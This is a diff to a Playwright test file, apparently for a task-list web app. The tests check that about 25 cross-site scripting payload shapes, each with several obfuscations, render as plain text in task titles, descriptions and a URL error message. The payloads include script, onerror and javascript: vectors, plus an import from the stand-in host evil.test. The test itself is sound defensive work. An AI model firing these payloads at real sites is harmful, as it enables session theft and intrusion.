@@ -3,52 +3,52 @@ import { signUpOnOtherDevice } from './otherDevice.ts'
 import { expect, test } from './testServer.ts'
 import { testUserOn } from './testUser.ts'
 
-// What runs when text is taken for markup, for an address, or for code. Each says who it was.
-const acts = [
+// Code that runs if text is interpreted as markup, as a URL or as a script. Each one is observable.
+const scripts = [
   'alert(1)',
   'confirm`1`',
   "window['al'+'ert'](1)",
   'top.hit=1',
   'import("//evil.test")',
 ]
-const shapes: ((act: string) => string)[] = [
-  (act) => `<script>${act}</script>`,
-  (act) => `<img src=x onerror=${act}>`,
-  (act) => `<svg onload=${act}>`,
-  (act) => `<svg><script>${act}</script></svg>`,
-  (act) => `"><img src=x onerror=${act}>`,
-  (act) => `'><svg/onload=${act}>`,
-  (act) => `</title><script>${act}</script>`,
-  (act) => `</textarea><script>${act}</script>`,
-  (act) => `<iframe srcdoc="<script>${act}</script>">`,
-  (act) => `<iframe src="javascript:${act}">`,
-  (act) => `<a href="javascript:${act}">x</a>`,
-  (act) => `<details open ontoggle=${act}>`,
-  (act) => `<body onload=${act}>`,
-  (act) => `<input autofocus onfocus=${act}>`,
-  (act) => `<video><source onerror=${act}>`,
-  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
-  (act) => `<object data="data:text/html,<script>${act}</script>">`,
-  (act) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${act})}">`,
-  (act) => `<base href="javascript:${act}//">`,
-  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
-  (act) => `<template><script>${act}</script></template>`,
-  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
-  (act) => `<style>@import 'javascript:${act}'</style>`,
-  (act) => `{{constructor.constructor('${act}')()}}`,
-  (act) => `\${${act}}`,
+const shapes: ((script: string) => string)[] = [
+  (script) => `<script>${script}</script>`,
+  (script) => `<img src=x onerror=${script}>`,
+  (script) => `<svg onload=${script}>`,
+  (script) => `<svg><script>${script}</script></svg>`,
+  (script) => `"><img src=x onerror=${script}>`,
+  (script) => `'><svg/onload=${script}>`,
+  (script) => `</title><script>${script}</script>`,
+  (script) => `</textarea><script>${script}</script>`,
+  (script) => `<iframe srcdoc="<script>${script}</script>">`,
+  (script) => `<iframe src="javascript:${script}">`,
+  (script) => `<a href="javascript:${script}">x</a>`,
+  (script) => `<details open ontoggle=${script}>`,
+  (script) => `<body onload=${script}>`,
+  (script) => `<input autofocus onfocus=${script}>`,
+  (script) => `<video><source onerror=${script}>`,
+  (script) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
+  (script) => `<object data="data:text/html,<script>${script}</script>">`,
+  (script) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${script})}">`,
+  (script) => `<base href="javascript:${script}//">`,
+  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
+  (script) => `<template><script>${script}</script></template>`,
+  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
+  (script) => `<style>@import 'javascript:${script}'</style>`,
+  (script) => `{{constructor.constructor('${script}')()}}`,
+  (script) => `\${${script}}`,
 ]
-const disguises: ((text: string) => string)[] = [
+const variants: ((text: string) => string)[] = [
   (text) => text,
   (text) => text.toUpperCase().replaceAll('ALERT', 'alert'),
   (text) => text.replaceAll(' ', '/'),
   (text) => text.replace('<', '<\u0001'),
 ]
 const payloads = shapes.flatMap((shape) =>
-  acts.flatMap((act) => disguises.map((disguise) => disguise(shape(act)))),
+  scripts.flatMap((script) => variants.map((variant) => variant(shape(script)))),
 )
 
-test(`[T13] ${payloads.length} pieces of markup in names and notes are only text`, async ({
+test(`[T13] ${payloads.length} markup payloads in titles and descriptions are rendered as text`, async ({
   page,
   server,
 }) => {
@@ -57,7 +57,7 @@ test(`[T13] ${payloads.length} pieces of markup in names and notes are only text
   const email = 'markup@example.com'
   const otherDevice = await signUpOnOtherDevice(server.url, email)
   await otherDevice.addTasks(payloads.map((text) => ({ title: text, description: text })))
-  const heard = await listenFor(page)
+  const reports = await collectReports(page)
 
   await testUserOn(page).signIn(email)
   const list = page.getByRole('article')
@@ -71,31 +71,31 @@ test(`[T13] ${payloads.length} pieces of markup in names and notes are only text
   }
   for (const title of await list.getByRole('heading').allTextContents()) seen.add(title)
 
-  // A list that shows only what one sees need not have been drawn in whole while it was rushed past.
+  // The windowed list does not render every row while it is scrolled quickly.
   expect(seen.size).toBeGreaterThan(payloads.length / 2)
   expect([...seen].filter((title) => !payloads.includes(title))).toEqual([])
-  expect(heard).toEqual([])
+  expect(reports).toEqual([])
 })
 
-test('[T13] what an address says of an error is only text', async ({ page }) => {
-  const heard = await listenFor(page)
+test('[T13] an error description from the URL is rendered as text', async ({ page }) => {
+  const reports = await collectReports(page)
   for (const shape of shapes) {
     const payload = shape('alert(1)')
     await page.goto('about:blank')
     await page.goto(`/#error=access_denied&error_description=${encodeURIComponent(payload)}`)
     await expect(page.getByRole('alert')).toHaveText(payload)
   }
-  expect(heard).toEqual([])
+  expect(reports).toEqual([])
 })
 
-/** Whatever of it was taken for more than text: a dialog, a script that ran, what the policy had to stop. */
-async function listenFor(page: Page): Promise<string[]> {
-  const heard: string[] = []
+/** Collects dialogs, scripts that ran and violations of the content security policy. */
+async function collectReports(page: Page): Promise<string[]> {
+  const reports: string[] = []
   page.on('dialog', (dialog) => {
-    heard.push(`dialog: ${dialog.message()}`)
+    reports.push(`dialog: ${dialog.message()}`)
     void dialog.dismiss()
   })
-  await page.exposeFunction('report', (what: string) => heard.push(what))
+  await page.exposeFunction('report', (what: string) => reports.push(what))
   await page.addInitScript(() => {
     addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
       void Reflect.get(window, 'report')(`policy: ${violatedDirective} ${sample}`)
@@ -104,5 +104,5 @@ async function listenFor(page: Page): Promise<string[]> {
       set: () => void Reflect.get(window, 'report')('a script ran'),
     })
   })
-  return heard
+  return reports
 }
